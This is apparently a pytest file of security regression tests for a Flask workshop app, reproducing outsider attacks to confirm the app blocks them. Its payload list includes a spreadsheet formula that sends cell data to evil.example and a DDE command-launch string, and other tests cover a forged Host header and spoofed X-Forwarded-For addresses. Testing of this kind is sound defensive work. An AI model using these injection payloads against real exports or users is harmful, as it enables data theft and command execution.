"""Issue 11: attacks an outsider (or a participant) could try, each reproduced here."""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient

from cocreate.db import db
from cocreate.errors import ActionRefused
from cocreate.export.formats import export_file
from cocreate.export.results_csv import safe_cell
from cocreate.organiser.plan_editor import plan_from_workshop
from cocreate.plans import PlanError, parse_plan
from cocreate.workshop import services
from cocreate.workshop.models import CafeTable, Challenge, Participant, Workshop
from cocreate.workshop.text import has_visible_character
from tests.clients import SMALL_PLAN, FormClient
from tests.integration.test_export import run_workshop
from tests.integration.test_organiser import make_organiser, signed_in_client
from tests.integration.test_organiser_plan_editor import form_of, post_plan

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("payload", FORMULAS)
def test_csv_neutralises_formulas_in_challenges_and_table_names(
    app: Flask, workshop: Workshop, payload: str
) -> None:
    played = run_workshop(workshop)
    for challenge in db.session.scalars(db.select(Challenge)):
        challenge.text = payload
    for table in db.session.scalars(db.select(CafeTable)):
        table.name = payload
    db.session.commit()

    body = export_file(played.workshop, "csv").decode("utf-8").lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(body, newline="")))

    assert rows[0] == ["rank", "challenge", "score", "tables", "score_unit"]
    for rank, challenge, score, tables, _unit in rows[1:]:
        assert challenge == "'" + payload
        assert tables == "" or tables.startswith("'" + payload)
        # Computed numbers stay numbers: no quote in front of rank or score.
        assert rank.isdigit() and score.isdigit()


def test_csv_keeps_negative_numbers_numeric_and_plain_text_untouched() -> None:
    assert safe_cell(-2) == -2
    assert safe_cell(-1.5) == -1.5
    assert safe_cell("-2") == "'-2"  # typed text that looks like a number is still text
    assert safe_cell("Bedre kommunikation") == "Bedre kommunikation"
    assert safe_cell("1+1=2") == "1+1=2"


@pytest.fixture
def organiser(app: Flask) -> FlaskClient:
    make_organiser("anne@kommune.dk")
    return signed_in_client(app, "anne@kommune.dk")


@pytest.fixture
def owned(organiser: FlaskClient, workshop: Workshop) -> Workshop:
    """The conftest workshop, unowned and so the first organiser's."""
    return workshop


def _pages(workshop: Workshop) -> list[str]:
    facilitate = f"/w/{workshop.code}/facilitate/{services.organiser_facilitator_key(workshop)}"
    return ["/", f"/j/{workshop.code}", facilitate, f"{facilitate}/print", "/organiser/login"]


def test_every_response_carries_the_security_headers(app: Flask, workshop: Workshop) -> None:
    client = app.test_client()
    for path in [*_pages(workshop), "/no-such-page", "/static/css/cocreate.css"]:
        response = client.get(path)
        csp = response.headers.get("Content-Security-Policy", "")
        for directive in ("frame-ancestors 'none'", "object-src 'none'", "base-uri 'self'"):
            assert directive in csp, (path, csp)
        assert "script-src 'self' 'nonce-" in csp
        assert "unsafe-inline" not in csp.split("script-src", 1)[1].split(";", 1)[0]
        assert response.headers["X-Frame-Options"] == "DENY"
        assert response.headers["Referrer-Policy"] == "no-referrer"
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert "Strict-Transport-Security" not in response.headers  # plain http here


def test_pages_run_no_script_the_policy_would_block(app: Flask, workshop: Workshop) -> None:
    """Every inline <script> carries this response's nonce; no inline event handlers."""
    import re

    client = app.test_client()
    for path in _pages(workshop):
        response = client.get(path)
        assert response.status_code == 200, path
        html = response.get_data(as_text=True)
        nonce = re.search(r"'nonce-([^']+)'", response.headers["Content-Security-Policy"])
        assert nonce is not None
        for tag in re.findall(r"<script\b[^>]*>", html):
            assert "src=" in tag or f'nonce="{nonce.group(1)}"' in tag, (path, tag)
        assert not re.search(r"<[^>]+\son[a-z]+\s*=", html), path
    first = client.get("/").headers["Content-Security-Policy"]
    assert first != client.get("/").headers["Content-Security-Policy"]  # a fresh nonce each time


def test_hsts_only_over_https(app: Flask) -> None:
    client = app.test_client()
    assert "Strict-Transport-Security" not in client.get("/").headers
    secure = client.get("/", base_url="https://cocreate.test")
    assert secure.headers["Strict-Transport-Security"].startswith("max-age=")


def test_a_forged_host_header_cannot_add_directives(app: Flask) -> None:
    response = app.test_client().get("/", headers={"Host": "evil; script-src *"})
    assert "script-src *" not in response.headers["Content-Security-Policy"]


def test_a_deeply_nested_plan_upload_is_a_clear_400_in_the_readers_language(
    organiser: FlaskClient, owned: Workshop
) -> None:
    organiser.set_cookie("cocreate_lang", "en")
    response = _upload_deep_plan(organiser, owned)
    assert response.status_code == 400
    assert "nests lists or tables too deeply" in response.get_data(as_text=True)
    with pytest.raises(PlanError, match="too deeply"):
        parse_plan("x = " + "[" * 100_000 + "]" * 100_000, source="deep.toml")


def test_the_deep_plan_message_is_danish_for_a_danish_reader(
    organiser: FlaskClient, owned: Workshop
) -> None:
    organiser.set_cookie("cocreate_lang", "da")
    response = _upload_deep_plan(organiser, owned)
    assert response.status_code == 400
    assert "for dybt" in response.get_data(as_text=True)


def _upload_deep_plan(organiser: FlaskClient, owned: Workshop) -> Any:
    deep = b"[workshop]\ntitle = " + b"[" * 100_000 + b"]" * 100_000 + b"\n"
    return organiser.post(
        f"/organiser/workshops/{owned.id}/plan/upload",
        data={"plan_file": (io.BytesIO(deep), "dyb.toml")},
        content_type="multipart/form-data",
    )


@pytest.mark.parametrize("minutes", ["1e309", "-1e309", "nan", "inf"])
def test_infinite_round_minutes_in_the_editor_are_a_clear_400(
    organiser: FlaskClient, owned: Workshop, minutes: str
) -> None:
    organiser.set_cookie("cocreate_lang", "en")
    form = form_of(plan_from_workshop(owned))
    form.setlist("round_minutes", [minutes, *form.getlist("round_minutes")[1:]])
    response = post_plan(organiser, owned, form)
    assert response.status_code == 400
    assert "Must be more than 0 and at most 240 minutes" in response.get_data(as_text=True)


INVISIBLE = [
    "\u202e\u200b\u200b",
    "\u2066\u2069\u200e",
    "\u200b \u200d\u3000\ufeff",
    "\u3164",
    "\u2800",
]


@pytest.mark.parametrize("text", INVISIBLE)
def test_text_with_no_visible_character_is_refused_everywhere(
    app: Flask, workshop: Workshop, text: str
) -> None:
    with app.test_request_context(headers={"Cookie": "cocreate_lang=en"}):
        # A name of bidi controls only is empty once they are stripped: refused as empty.
        with pytest.raises(ActionRefused, match=r"no visible letters|Please type your name"):
            services.join(workshop, text)
        anna = services.join(workshop, "Anna")[0]
        services.start_next_round(workshop)
        with pytest.raises(ActionRefused, match="note has no visible characters"):
            services.add_note(anna, "ideas", text, None)
        note = services.add_note(anna, "challenges", "Tydeligere mandat", None)
        with pytest.raises(ActionRefused, match="note has no visible characters"):
            services.edit_note(anna, note.id, text)
        services.end_round(workshop)
        services.begin_consolidation(workshop)
        with pytest.raises(ActionRefused, match="challenge has no visible characters"):
            services.add_challenge(workshop, text=text)
        challenge = services.add_challenge(workshop, note_id=note.id)
        with pytest.raises(ActionRefused, match="challenge has no visible characters"):
            services.edit_challenge(workshop, challenge.id, text)
        db.session.rollback()
    assert [c.text for c in db.session.scalars(db.select(Challenge))] == ["Tydeligere mandat"]
    assert [p.name for p in db.session.scalars(db.select(Participant))] == ["Anna"]


def test_names_lose_bidi_controls_and_real_text_is_kept(app: Flask, workshop: Workshop) -> None:
    spoof = "\u202eannA\u202c \u2066Bo\u2069\u200f\u061c"
    assert services.join(workshop, spoof)[0].name == "annA Bo"
    # Text in any script, emoji with joiners and Arabic stay as typed.
    for name in ("Æsa Ørn", "👩\u200d💻 Dana", "فاطمة", "李雷"):
        assert services.join(workshop, name)[0].name == name
    assert has_visible_character("a\u200b") and not has_visible_character("\u200b\u202e ")


def _app_with(tmp_path: Path, **config: object) -> Flask:
    from cocreate import create_app

    application = create_app(
        {
            "TESTING": True,
            "SECRET_KEY": "test",
            "SQLALCHEMY_DATABASE_URI": f"sqlite:///{tmp_path / 'proxy.sqlite3'}",
            "ASYNC_MODE": "threading",
        }
        | config
    )
    application.test_client_class = FormClient
    return application


def _spoofed_joins(app: Flask, count: int) -> list[int]:
    with app.app_context():
        code = services.create_workshop(parse_plan(SMALL_PLAN, source="small.toml")).code
    statuses = []
    for i in range(count):
        client = app.test_client()  # a fresh device each time, as a script would
        response = client.post(
            f"/j/{code}",
            data={"name": f"Bot {i}"},
            headers={"X-Forwarded-For": f"203.0.113.{i}"},
            base_url="https://cocreate.example",
        )
        statuses.append(response.status_code)
    return statuses


def test_an_https_public_url_alone_does_not_trust_x_forwarded_for(tmp_path: Path) -> None:
    assert "COCREATE_TRUSTED_PROXIES" not in os.environ
    app = _app_with(tmp_path, PUBLIC_URL="https://cocreate.example", TRUSTED_PROXIES=0)
    statuses = _spoofed_joins(app, 25)
    assert statuses[:20] == [303] * 20
    assert 429 in statuses[20:]


def test_with_one_trusted_proxy_each_forwarded_visitor_is_counted_apart(tmp_path: Path) -> None:
    app = _app_with(tmp_path, PUBLIC_URL="https://cocreate.example", TRUSTED_PROXIES="1")
    assert _spoofed_joins(app, 25) == [303] * 25


def test_trusted_proxies_must_be_a_whole_number(tmp_path: Path) -> None:
    for bad in ("-1", "yes", 1.5):
        with pytest.raises(ValueError, match="TRUSTED_PROXIES"):
            _app_with(tmp_path, TRUSTED_PROXIES=bad)


def test_serve_takes_trusted_proxies(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    from click.testing import CliRunner

    from cocreate import commands
    from cocreate.extensions import socketio

    seen: dict[str, object] = {}
    monkeypatch.setattr(socketio, "run", lambda app, **_: seen.update(app.config))
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'serve.sqlite3'}")
    result = CliRunner().invoke(
        commands.cli,
        ["serve", "--public-url", "https://cocreate.example", "--trusted-proxies", "2"],
    )
    assert result.exit_code == 0, result.output
    assert seen["TRUSTED_PROXIES"] == 2
    bad = CliRunner().invoke(commands.cli, ["serve", "--trusted-proxies", "-1"])
    assert bad.exit_code != 0


def test_unknown_join_code_look_ups_are_rate_limited(app: Flask, workshop: Workshop) -> None:
    client = app.test_client()
    limit = int(app.config["LOOKUP_RATE_LIMIT"].split()[0])
    guesses = [f"/?code=ZZZ{i:03d}" for i in range(limit // 2)]
    guesses += [f"/j/QQQ{i:03d}" for i in range(limit - len(guesses))]
    assert [client.get(path).status_code for path in guesses] == [404] * limit
    assert client.get("/?code=ZZZ999").status_code == 429
    assert client.get(f"/j/{workshop.code}").status_code == 429  # guessing right is no way out
    # Another address is not affected, and known codes never count.
    other = app.test_client()
    for _ in range(limit + 5):
        assert (
            other.get(f"/j/{workshop.code}", environ_base={"REMOTE_ADDR": "10.0.0.9"}).status_code
            == 200
        )
